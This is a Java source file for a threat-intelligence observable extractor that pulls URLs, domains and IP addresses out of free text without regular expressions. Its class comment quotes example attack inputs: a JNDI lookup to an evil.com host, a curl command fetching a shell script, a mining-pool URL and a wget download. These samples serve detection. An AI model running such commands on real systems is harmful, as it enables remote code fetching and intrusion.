package dev.vigil.ti.extract;

import dev.vigil.ti.Hosts;
import dev.vigil.ti.IpAddresses;
import dev.vigil.ti.IpPrefix;
import dev.vigil.ti.Urls;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Finds URLs, host names and IP addresses in free text: a decoded request parameter, a JNDI lookup
 * ({@code ${jndi:ldap://x.evil.com:1389/a}}), a command line ({@code curl -s http://1.2.3.4:8080/x.sh},
 * {@code -o stratum+tcp://pool.evil.com:3333}, {@code wget evil.com/x}). One left-to-right pass
 * over the text, no regular expressions: text is cut into tokens at whitespace, quotes and shell
 * punctuation; inside a token every {@code scheme://} starts a URL (a URL nested in another's query
 * is reported too), and outside URLs runs of host characters are classified as IPv4, IPv6 or domain.
 * A domain needs an alphabetic top-level label and is not taken when that label is a common file
 * extension ({@code x.php}, {@code a.sh}). At most {@link #MAX_RESULTS} observables are reported.
 * Never throws on any input. Stateless and thread-safe.
 */
public final class ObservableExtractor {
    /** Cap on results per text, which also bounds the work spent copying nested URLs. */
    public static final int MAX_RESULTS = 64;

    private static final Set<String> FILE_EXTENSIONS = Set.of("php", "php3", "php5", "phtml", "html", "htm", "js",
            "css", "txt", "jsp", "asp", "aspx", "exe", "dll", "bat", "cmd", "ps1", "jpg", "jpeg", "png", "gif", "svg",
            "ico", "json", "xml", "yml", "yaml", "log", "conf", "cfg", "ini", "bak", "old", "tmp", "tar", "gz", "tgz",
            "zip", "rar", "py", "pl", "rb", "so", "sh", "bin", "elf", "sql", "env", "pid", "sock", "lock", "pem",
            "key", "crt", "war", "jar", "class", "doc", "docx", "xls", "xlsx", "pdf", "csv", "md", "c", "h", "go");

    private ObservableExtractor() {}

    /** All observables in {@code text}, in order of position. */
    public static List<Observable> extract(CharSequence text) {
        List<Observable> out = new ArrayList<>(2);
        if (text == null) {
            return out;
        }
        int n = text.length();
        int i = 0;
        while (i < n && out.size() < MAX_RESULTS) {
            while (i < n && isDelimiter(text.charAt(i))) {
                i++;
            }
            int start = i;
            while (i < n && !isDelimiter(text.charAt(i))) {
                i++;
            }
            if (i > start) {
                token(text, start, i, out);
            }
        }
        return out;
    }

    private static void token(CharSequence t, int start, int end, List<Observable> out) {
        int p = start;
        boolean insideUrl = false;
        while (p < end && out.size() < MAX_RESULTS) {
            int q = indexOfSchemeSep(t, p, end);
            if (q < 0) {
                if (!insideUrl) {
                    hostRuns(t, p, end, out);
                }
                return;
            }
            int s = q;
            while (s > p && isSchemeChar(t.charAt(s - 1))) {
                s--;
            }
            while (s < q && !isAsciiLetter(t.charAt(s))) {
                s++;
            }
            if (!insideUrl) {
                hostRuns(t, p, s, out);
            }
            if (s == q) {
                p = q + 3;
                continue;
            }
            int urlEnd = end;
            while (urlEnd > q + 3 && ".,:!?".indexOf(t.charAt(urlEnd - 1)) >= 0) {
                urlEnd--;
            }
            int authorityEnd = q + 3;
            while (authorityEnd < urlEnd && "/?#".indexOf(t.charAt(authorityEnd)) < 0) {
                authorityEnd++;
            }
            String canonical = Urls.canonicalize(t.subSequence(s, urlEnd));
            if (canonical != null) {
                String host = Urls.hostOf(canonical);
                if (host != null) {
                    out.add(new Observable(Observable.Kind.URL, canonical, host, s, urlEnd));
                }
            }
            insideUrl = true;
            p = Math.max(authorityEnd, q + 3);
        }
    }

    private static int indexOfSchemeSep(CharSequence t, int from, int end) {
        for (int k = from; k + 2 < end; k++) {
            if (t.charAt(k) == ':' && t.charAt(k + 1) == '/' && t.charAt(k + 2) == '/') {
                return k;
            }
        }
        return -1;
    }

    /** Classifies each run of host characters in {@code t[from, to)}. */
    private static void hostRuns(CharSequence t, int from, int to, List<Observable> out) {
        int i = from;
        while (i < to && out.size() < MAX_RESULTS) {
            while (i < to && !isHostChar(t.charAt(i))) {
                i++;
            }
            int s = i;
            while (i < to && isHostChar(t.charAt(i))) {
                i++;
            }
            if (i > s) {
                run(t, s, i, out);
            }
        }
    }

    private static void run(CharSequence t, int s, int e, List<Observable> out) {
        while (s < e && ".-:_".indexOf(t.charAt(s)) >= 0 && !(t.charAt(s) == ':' && s + 1 < e && t.charAt(s + 1) == ':')) {
            s++;
        }
        while (e > s && ".-:_".indexOf(t.charAt(e - 1)) >= 0 && !(t.charAt(e - 1) == ':' && e - 2 >= s
                && t.charAt(e - 2) == ':')) {
            e--;
        }
        if (e - s < 2) {
            return;
        }
        int colons = 0;
        for (int k = s; k < e; k++) {
            if (t.charAt(k) == ':') {
                colons++;
            }
        }
        if (colons >= 2) {
            long[] a = new long[2];
            if (IpAddresses.parseV6(t, s, e, a)) {
                IpPrefix p = IpPrefix.parse(t.subSequence(s, e));
                if (p != null) {
                    String v = p.text();
                    out.add(new Observable(Observable.Kind.IP, v, v, s, e));
                }
                return;
            }
        }
        int k = s;
        while (k < e) {
            int pe = k;
            while (pe < e && t.charAt(pe) != ':') {
                pe++;
            }
            piece(t, k, pe, out);
            k = pe + 1;
        }
    }

    private static void piece(CharSequence t, int s, int e, List<Observable> out) {
        while (s < e && (t.charAt(s) == '.' || t.charAt(s) == '-')) {
            s++;
        }
        while (e > s && (t.charAt(e - 1) == '.' || t.charAt(e - 1) == '-')) {
            e--;
        }
        if (e - s < 3 || out.size() >= MAX_RESULTS) {
            return;
        }
        long v4 = IpAddresses.parseV4(t, s, e);
        if (v4 != IpAddresses.INVALID) {
            String v = IpAddresses.formatV4(v4);
            out.add(new Observable(Observable.Kind.IP, v, v, s, e));
            return;
        }
        int lastDot = -1;
        for (int k = e - 1; k >= s; k--) {
            if (t.charAt(k) == '.') {
                lastDot = k;
                break;
            }
        }
        if (lastDot < 0 || e - lastDot - 1 < 2 || e - s > 4 * Hosts.MAX_NAME) {
            return;
        }
        boolean punycode = e - lastDot > 5 && Hosts.lower(t.charAt(lastDot + 1)) == 'x'
                && Hosts.lower(t.charAt(lastDot + 2)) == 'n' && t.charAt(lastDot + 3) == '-' && t.charAt(lastDot + 4) == '-';
        for (int k = lastDot + 1; k < e; k++) {
            char c = t.charAt(k);
            boolean ok = isAsciiLetter(c) || (c >= 0x80 && Character.isLetter(c)) || (c == '-' && k > lastDot + 1)
                    || (punycode && c >= '0' && c <= '9');
            if (!ok) {
                return;
            }
        }
        String tld = t.subSequence(lastDot + 1, e).toString().toLowerCase(Locale.ROOT);
        if (FILE_EXTENSIONS.contains(tld)) {
            return;
        }
        String d = Hosts.normalizeDomain(t.subSequence(s, e));
        if (d != null) {
            out.add(new Observable(Observable.Kind.DOMAIN, d, d, s, e));
        }
    }

    private static boolean isDelimiter(char c) {
        return c <= ' ' || c == 0x7f || "\"'`<>{}()|^\\,;".indexOf(c) >= 0 || Character.isWhitespace(c);
    }

    private static boolean isHostChar(char c) {
        return isAsciiLetter(c) || (c >= '0' && c <= '9') || c == '.' || c == '-' || c == '_' || c == ':'
                || (c >= 0x80 && Character.isLetterOrDigit(c));
    }

    private static boolean isSchemeChar(char c) {
        return isAsciiLetter(c) || (c >= '0' && c <= '9') || c == '+' || c == '-' || c == '.';
    }

    private static boolean isAsciiLetter(char c) {
        return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
    }
}
